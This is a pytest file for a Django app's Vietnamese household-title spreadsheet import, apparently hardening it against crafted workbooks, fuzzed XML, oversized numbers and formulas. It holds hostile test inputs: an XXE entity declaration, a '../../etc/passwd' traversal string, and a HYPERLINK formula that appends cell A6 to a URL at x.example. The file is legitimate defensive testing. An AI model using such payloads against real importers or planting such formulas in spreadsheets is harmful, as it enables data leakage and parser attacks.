"""The title import under attack (issue 20): crafted workbooks, numbers no row can hold, cells
that would read as blank, codes of households out of the user's scope, formulas in the
template. Each answer is a Vietnamese message, nothing is written, and the process that read
the file serves the next request."""

import io
import re
import subprocess
import sys
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from recognition import importer
from recognition.models import TitleEvaluation
from recognition.services import meetings
from tests.core.crafted import CRAFTED, SHEET, WORST, parts_of, zip_of
from tests.core.test_xlsx import vietnamese

from .conftest import family_meeting

pytestmark = pytest.mark.django_db

ROOT = Path(__file__).resolve().parents[2]
FIRST = importer.HEADER_ROW + 1
GOOD_ROWS = [
    ["H001", "Nguyễn Văn An", None, 45, 28, 20, 8, None],
    ["H002", "Trần Thị Bình", "x", 30, 19, 13, 7, "hộ cận nghèo"],  # each group >= half its max
]


def sheet(meeting, rows):
    """The downloaded template with its data rows replaced by `rows`."""
    wb = load_workbook(io.BytesIO(importer.template_xlsx(meeting)))
    ws = wb.active
    ws.delete_rows(FIRST, ws.max_row)
    for row in rows:
        ws.append(row)
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


@pytest.fixture
def meeting_2019(cast, rules):
    """On the area as it stood in 2019 (cast.old_area): its pages are the district's."""
    meeting = family_meeting(cast.area, 2019, invited=10, attending=8)
    assert meeting.unit == cast.old_area
    return meeting


@pytest.fixture
def good(meeting_2019):
    return sheet(meeting_2019, GOOD_ROWS)


def passing_row(meeting, code, name):
    """A row that passes under the meeting's criteria set, filled from its template's heading:
    full marks or "x" for each standard, no exclusion, every attendee in favour."""
    header = load_workbook(io.BytesIO(importer.template_xlsx(meeting))).active[importer.HEADER_ROW]
    row = []
    for label in (cell.value for cell in header):
        maximum = re.search(r"\(tối đa (\d+)\)", label)
        if label == "Mã hộ":
            row.append(code)
        elif label == "Chủ hộ":
            row.append(name)
        elif maximum:
            row.append(int(maximum[1]))
        elif label.endswith("(đạt: x)"):
            row.append("x")
        elif label == "Số phiếu đồng ý":
            row.append(meeting.attending)
        else:  # poor, the exclusions, the note
            row.append(None)
    return row


def upload(client, meeting, data):
    page = reverse("recognition:meeting_import", args=[meeting.pk])
    return client.post(page, {"file": SimpleUploadedFile("bx.xlsx", data)})


def answers(response) -> list[str]:
    """The errors the page shows: the import's, or the upload form's (an empty file)."""
    form = response.context["form"]
    return list(response.context.get("errors") or []) + [
        message for messages in form.errors.values() for message in messages
    ]


def assert_good_file_is_checked(client, meeting, data):
    response = upload(client, meeting, data)
    assert response.status_code == 200
    assert response.context["token"] and "2 kết quả mới" in response.content.decode()


@pytest.mark.parametrize("attack", sorted(CRAFTED))
def test_a_crafted_workbook_gets_a_vietnamese_answer_and_the_next_request_is_served(
    cast, meeting_2019, good, client_for, attack
):
    c = client_for("district")
    response = upload(c, meeting_2019, CRAFTED[attack](good))
    assert response.status_code == 200
    refused = answers(response)
    assert refused and all(vietnamese(m) for m in refused), refused
    assert not response.context.get("token")
    assert_good_file_is_checked(c, meeting_2019, good)
    assert not TitleEvaluation.objects.exists()


# pieces of XML a mutation puts into a real template: quotes, far references, entities, tags
PIECES = [
    b"'",
    b'"',
    b"<",
    b"</row>",
    b"<c r='XFD1048576'><v>1</v></c>",
    b"<row r='1048576'>",
    b' r="A99999"',
    b"<x:c xmlns:x='urn:x' r='ZZZ9'/>",
    b"<!DOCTYPE x [<!ENTITY e 'e'>]>",
    b"&e;",
    b"<f>SUM(D6:D7)</f>",
    b"<mergeCell ref='A6:B6'/>",
    b"9999999999",
    b"\x00",
    b"../../etc/passwd",
]
PARTS = [
    SHEET,
    SHEET,
    SHEET,
    "xl/workbook.xml",
    "xl/_rels/workbook.xml.rels",
    "[Content_Types].xml",
]


@settings(
    max_examples=25,
    deadline=None,
    database=None,  # the same examples every run: no replay of old failures from .hypothesis/
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(
    part=st.sampled_from(PARTS),
    mutations=st.lists(
        st.tuples(st.floats(0, 1), st.integers(0, 12), st.sampled_from(PIECES)),
        min_size=1,
        max_size=4,
    ),
)
def test_mutations_of_a_real_template_get_an_answer_and_the_process_lives_on(
    cast, meeting_2019, good, client_for, part, mutations
):
    parts = parts_of(good)
    xml = parts[part]
    for where, cut, piece in mutations:
        at = int(where * len(xml))
        xml = xml[:at] + piece + xml[at + cut :]
    parts[part] = xml
    c = client_for("district")
    response = upload(c, meeting_2019, zip_of(parts))
    assert response.status_code == 200
    refused = answers(response)
    assert all(vietnamese(m) for m in refused), refused
    assert refused or response.context["token"]
    assert_good_file_is_checked(c, meeting_2019, good)


def test_the_worst_files_leave_the_process_that_reads_them_alive(tmp_path, good):
    """Without gunicorn: a process of its own reads the files that made python-calamine abort
    (SIGABRT) with the importer, and must live to say so."""
    paths = []
    for name in WORST:
        path = tmp_path / f"{name}.xlsx"
        path.write_bytes(CRAFTED[name](good))
        paths.append(str(path))
    script = (
        "import os, sys\n"
        "os.environ.setdefault('DJANGO_SETTINGS_MODULE', 'portal.settings')\n"
        "import django\n"
        "django.setup()\n"
        "from recognition import importer\n"
        "for path in sys.argv[1:]:\n"
        "    data = open(path, 'rb').read()\n"
        "    try:\n"
        "        result = importer.read_sheet(data, max_rows=importer.MAX_ROWS + 10)\n"
        "    except Exception as exc:\n"
        "        result = ([], [repr(exc)])\n"
        "    errors = result[1] if isinstance(result, tuple) else ['read']\n"
        "    print(os.path.basename(path), '|', ' '.join(errors), flush=True)\n"
        "print('alive')\n"
    )
    done = subprocess.run(
        [sys.executable, "-c", script, *paths],
        cwd=ROOT,
        capture_output=True,
        text=True,
        timeout=600,
    )
    assert done.returncode == 0, (done.returncode, done.stdout, done.stderr[-3000:])
    lines = done.stdout.splitlines()
    assert lines[-1] == "alive"
    assert len(lines) == len(WORST) + 1
    assert all(vietnamese(line.split("|")[1]) for line in lines[:-1]), lines


def test_merged_cells_are_refused_naming_them(cast, meeting_2019):
    wb = load_workbook(io.BytesIO(sheet(meeting_2019, GOOD_ROWS)))
    ws = wb.active
    ws.merge_cells("A1:H1")  # the title across the top is harmless
    ws.merge_cells(f"D{FIRST}:E{FIRST}")  # E6 would read as blank
    out = io.BytesIO()
    wb.save(out)
    counts, errors = importer.run(meeting_2019, out.getvalue(), apply=False)
    assert counts is None
    assert errors == [str(importer.MERGED_CELLS).format(cells=f"D{FIRST}:E{FIRST}")]


def test_formulas_without_a_computed_value_are_refused_naming_the_cells(cast, meeting_2019):
    rows = [row[:] for row in GOOD_ROWS]
    rows[0][3] = "=20+25"  # openpyxl stores the formula only, as many tools do
    rows[1][6] = f"=D{FIRST + 1}/5"
    data = sheet(meeting_2019, rows)
    counts, errors = importer.run(meeting_2019, data, apply=True)
    assert counts is None
    assert errors == [str(importer.FORMULA_WITHOUT_VALUE).format(cells=f"D{FIRST}, G{FIRST + 1}")]
    assert not TitleEvaluation.objects.exists()
    # saved by a spreadsheet program the formula carries its value, which is imported
    parts = parts_of(data)
    for formula, value in (("20+25", "45"), (f"D{FIRST + 1}/5", "6")):
        parts[SHEET] = re.sub(
            rf"<f>{re.escape(formula)}</f>\s*<v\s*(?:/>|>\s*</v>)".encode(),  # <v/> or <v></v>
            f"<f>{formula}</f><v>{value}</v>".encode(),
            parts[SHEET],
        )
    counts, errors = importer.run(meeting_2019, zip_of(parts), apply=True)
    assert errors == [] and counts["created"] == 2
    votes = dict(TitleEvaluation.objects.values_list("household__code", "votes_for"))
    assert votes == {"H001": 8, "H002": 6}


@pytest.mark.parametrize(
    ("typed", "written", "shown"),
    [
        (777_777_777, b"<v>1e999</v>", "∞"),
        (777_777_777, b"<v>12345678901234567890</v>", "12345678901234567168"),  # a float
        ("12345678901234567890", None, "12345678901234567890"),
        ("-99999999999999999999999999", None, "-9999999999999999999…"),
        (2_000_000, None, "2000000"),
    ],
    ids=["1e999", "20-digit-number", "20-digit-text", "27-digit-text", "two-million"],
)
def test_a_number_no_row_can_hold_is_refused_at_its_row_in_the_dry_run(
    cast, meeting_2019, client_for, typed, written, shown
):
    row = ["H001", "Nguyễn Văn An", None, 45, 28, 20, typed, None]
    data = sheet(meeting_2019, [row])
    if written is not None:
        parts = parts_of(data)
        parts[SHEET] = parts[SHEET].replace(f"<v>{typed}</v>".encode(), written)
        data = zip_of(parts)
    response = upload(client_for("district"), meeting_2019, data)
    column = "Số phiếu đồng ý"
    too_large = str(importer.NUMBER_TOO_LARGE).format(
        value=shown, column=column, max=importer.MAX_NUMBER
    )
    assert answers(response) == [f"Dòng {FIRST}: {too_large}"]
    assert not response.context.get("token")
    assert not TitleEvaluation.objects.exists()


@pytest.mark.parametrize(
    ("year", "roles"),
    [(2019, ("district",)), (2026, ("residential", "commune"))],
    ids=["2019-old-area", "2026-new-area"],
)
def test_a_household_out_of_scope_is_answered_as_one_that_does_not_exist(
    cast, rules, client_for, year, roles
):
    # 2019: the meeting is the old area's, reached by the district; 2026: the new area's, by
    # its residential board and its commune. The household is in neither's scope.
    meeting = family_meeting(cast.area, year, invited=10, attending=8)
    cast.other_household.code = "H777"  # in the other commune
    cast.other_household.save()

    def answer(role, code):
        rows = [passing_row(meeting, code, "Lê Văn Cường")]
        refused = answers(upload(client_for(role), meeting, sheet(meeting, rows)))
        return [m.replace(code, "<mã>") for m in refused]

    unknown = str(importer.UNKNOWN_HOUSEHOLD).format(code="<mã>", area=meeting.unit.name)
    for role in roles:
        assert answer(role, "H777") == answer(role, "H999"), role
        assert answer(role, "H777") == [f"Dòng {FIRST}: {unknown}"], role
    # who may see that household is told where it is
    elsewhere = str(importer.HOUSEHOLD_ELSEWHERE).format(code="<mã>", other=cast.other_area.name)
    assert answer("province_admin", "H777") == [f"Dòng {FIRST}: {elsewhere}"]


def test_a_note_typed_as_a_formula_comes_back_as_text_in_the_template(
    cast, meeting_2019, client_for
):
    note = '=HYPERLINK("http://x.example/?q="&A6,"Xem chi tiết")'
    for household, typed in zip(cast.households, (note, "@SUM(1)"), strict=True):
        meetings.evaluation_record(
            meeting=meeting_2019,
            household=household,
            results={1: 45, 2: 28, 3: 20},
            votes_for=8,
            note=typed,
        )
    c = client_for("district")
    data = c.get(reverse("recognition:meeting_template", args=[meeting_2019.pk])).content
    ws = load_workbook(io.BytesIO(data)).active
    for row, typed in ((FIRST, note), (FIRST + 1, "@SUM(1)")):
        cell = ws.cell(row, 8)
        assert (cell.value, cell.data_type, cell.quotePrefix) == (typed, "s", True)
    # the template goes back unchanged: the notes are read as typed
    counts, errors = importer.run(meeting_2019, data, apply=True)
    assert errors == [] and counts == {"created": 0, "updated": 0, "unchanged": 2}


def test_invisible_characters_in_an_imported_note_are_not_stored(cast, meeting_2019):
    rows = [["H001", "Nguyễn Văn An", None, 45, 28, 20, 8, "hộ\u200b khó\u202e khăn"]]
    _counts, errors = importer.run(meeting_2019, sheet(meeting_2019, rows), apply=True)
    assert errors == []
    assert TitleEvaluation.objects.get().note == "hộ khó khăn"
